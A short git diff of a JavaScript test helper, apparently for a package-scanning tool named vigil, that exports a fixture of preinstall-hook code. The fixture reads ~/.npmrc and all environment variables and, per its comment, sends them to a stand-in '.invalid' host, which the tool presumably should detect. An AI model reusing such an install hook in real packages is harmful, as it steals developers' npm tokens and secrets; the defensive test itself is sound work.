@@ -19,7 +19,8 @@ const run = promisify(execFile);
 export const ROOT = resolve(import.meta.dirname, '..', '..');
 export const BIN = join(ROOT, 'bin', 'vigil.js');
 
-const EXFIL = [
+/** A preinstall that sends the environment and ~/.npmrc to an `.invalid` host (and writes the marker if it ever runs). */
+export const EXFIL = [
   "const fs = require('fs'); const os = require('os'); const path = require('path'); const https = require('https');",
   "let npmrc = ''; try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}",
   'const body = JSON.stringify({ env: process.env, npmrc });',
